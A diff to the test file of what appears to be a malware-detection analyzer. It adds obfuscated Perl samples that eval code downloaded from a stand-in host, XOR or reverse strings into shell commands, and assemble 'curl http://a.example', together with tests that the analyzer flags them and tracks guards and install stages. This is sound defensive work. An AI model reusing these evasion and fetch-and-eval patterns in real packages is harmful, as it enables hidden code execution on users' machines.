@@ -95,6 +95,13 @@ const TRICKS: readonly (readonly [name: string, language: Language, trick: strin
 
   ['a download that is evaluated in Perl', 'perl', 'my $c = get("http://a.example"); eval $c;', /code\.evaluate code=<network>/, 'my $c = get("http://a.example"); print $c;'],
   ['base64 in Perl', 'perl', 'eval(decode_base64("cHJpbnQgMQ=="));', /code\.evaluate code=print 1<decoded>/, 'print(decode_base64("cHJpbnQgMQ=="));'],
+  ['a value through a sub', 'perl', 'sub d { my ($s) = @_; return reverse($s); } system(d("di"));', /process\.shell command=id/, 'sub d { my ($s) = @_; return $s; } system(d("di"));'],
+  ['an argument that is shifted', 'perl', 'sub f { my $u = shift; eval get($u); } f("http://a.example");', /code\.evaluate code=<network>/, 'sub f { my $u = shift; print get($u); } f("http://a.example");'],
+  ['a loop with a key', 'perl', 'my $o = ""; foreach my $n (109,97) { $o .= chr($n ^ 4); } system($o);', /process\.shell command=ie/, 'my $o = ""; foreach my $n (109,97) { $o .= chr($n ^ 5); } system($o);'],
+  ['a map over numbers', 'perl', 'eval join("", map { chr($_ - 1) } (113,115,106,111,117));', /code\.evaluate code=print/, 'eval join("", map { chr($_) } (113,115,106,111,117));'],
+  ['the last index of a list', 'perl', 'my $n = $#list; system("id");', /process\.shell command=id/, 'my $n = 1; # system("id");'],
+  ['an element of a table', 'perl', '$h{cmd} = "id"; system($h{cmd});', /process\.shell command=id/, '$h{cmd} = "id"; system($h{other});'],
+  ['a list that grows', 'perl', 'my @c; push @c, "cu"; push @c, "rl http://a.example"; system(join("", @c));', /process\.shell command=curl/, 'my @c; push @c, "cu"; system(join("", @c));'],
   ['a command in backticks', 'perl', 'my $x = `id`;', /process\.shell command=id/, "my $x = 'id';"],
 ];
 
@@ -138,6 +145,22 @@ test('conditions around a command are told', () => {
 test('what follows a test that exits stands under its opposite', () => {
   const [call] = read('shell', '[ -n "$CI" ] && exit 0\ncurl http://a.example').calls.filter((candidate) => candidate.name === 'curl');
   assert.deepEqual(call?.guards, ['!([ -n "$CI" ])']);
+});
+
+test('conditions around what Perl does are told, before and behind', () => {
+  const guards = (text: string) => read('perl', text).calls.filter(({ name }) => name === 'system').map((call) => call.guards);
+  assert.deepEqual(guards('if ($ENV{CI}) { system("a"); } elsif ($x) { system("b"); } else { system("c"); }'), [['$ENV{CI}'], ['$x'], ['!($x)']]);
+  assert.deepEqual(guards('system("a") unless -t STDIN; system("b");'), [['!(-t STDIN)'], []]);
+  assert.deepEqual(guards('exit if $ENV{CI};\nsystem("a");'), [['!($ENV{CI})']]);
+  assert.deepEqual(guards('-e "x" and system("a"); open(F, "x") or system("b"); while (1) { system("c") }'), [['-e "x"'], ['!(open(F, "x"))'], []]);
+});
+
+test('a sub that nothing calls runs later than its script, in a module for whoever loads it', () => {
+  const text = 'sub f { system("a"); }\nsub g { system("b"); }\ng();\n';
+  const staged = (path: string) => readPerl({ path, text, language: 'perl', stage: 'install', layers: [] }, { budget: new Budget(), inner: () => undefined })
+    .calls.filter(({ name }) => name === 'system').map(({ stage, within, guards }) => [stage, within, guards.length]);
+  assert.deepEqual(staged('Makefile.PL'), [['install', 'g', 0], ['run', 'f', 1]]);
+  assert.deepEqual(staged('lib/Forged.pm'), [['install', 'g', 0], ['install', 'f', 1]]);
 });
 
 test('a function that nothing calls runs later than its script', () => {
